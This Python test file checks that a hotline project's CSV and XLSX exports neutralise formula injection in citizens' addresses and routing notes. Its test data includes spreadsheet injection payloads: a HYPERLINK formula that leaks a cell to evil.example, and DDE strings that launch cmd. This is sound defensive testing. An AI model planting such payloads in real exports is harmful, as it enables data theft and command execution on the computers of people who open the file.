"""Every CSV and XLSX the project writes neutralises formula-looking text (issue 14): a citizen's address can
never become a formula in the spreadsheet program that opens the export."""

from __future__ import annotations

import csv
import io

from openpyxl import Workbook, load_workbook

from hotline.spreadsheet import csv_text, xlsx_append

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["澄江街道梅园路12号", "a=b", 42, -5, 3.5, None, ""]


def test_csv_cells_that_look_like_formulas_get_a_quote():
    rows = list(csv.reader(io.StringIO(csv_text([EVIL, SAFE]))))
    assert rows[0] == ["'" + v for v in EVIL]
    assert rows[1] == ["澄江街道梅园路12号", "a=b", "42", "-5", "3.5", "", ""]


def test_xlsx_cells_that_look_like_formulas_are_text():
    wb = Workbook()
    ws = wb.active
    xlsx_append(ws, EVIL)
    xlsx_append(ws, SAFE)
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(io.BytesIO(buf.getvalue())).active
    values = [c.value for c in back[1]][: len(EVIL)]
    assert values[:5] == EVIL[:5] and values[5] in ("\r=1+1", "\n=1+1")  # XML keeps a CR as a line break
    assert all(c.data_type == "s" for c in back[1][: len(EVIL)])
    assert [c.value for c in back[2]][:5] == ["澄江街道梅园路12号", "a=b", 42, -5, 3.5]


def test_monthly_report_exports_neutralise_a_citizens_address():
    from hotline.reports.monthly import Section, to_csv, to_xlsx
    from hotline.reports.periods import parse_month

    section = Section("repeat", "Repeat complaints", ["kind", "address", "category", "count", "tickets"])
    section.rows.append(["Address", "=1+1 梅园路", "010204", 3, "XC1 XC2 XC3"])
    assert "'=1+1 梅园路" in to_csv(section)
    sheet = load_workbook(io.BytesIO(to_xlsx(parse_month("2026-11"), [section]))).active
    cell = sheet.cell(row=3, column=2)
    assert cell.value == "=1+1 梅园路" and cell.data_type == "s"


def test_dispatch_catalogue_export_neutralises_a_note(api):
    admin = api.as_("admin")
    r = admin.post(
        "/routing/rules",
        {"category": "环境保护/环境污染", "department": "XC-CGJ", "note": "=cmd|' /C calc'!A0", "reason": "测试"},
    )
    assert r.status_code == 201, r.get_json()
    text = admin.get("/routing/rules/export?format=csv").data.decode()
    assert "'=cmd|' /C calc'!A0" in text
    sheet = load_workbook(io.BytesIO(admin.get("/routing/rules/export?format=xlsx").data)).active
    notes = [row[3] for row in sheet.iter_rows(values_only=True)]
    assert "=cmd|' /C calc'!A0" in notes
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
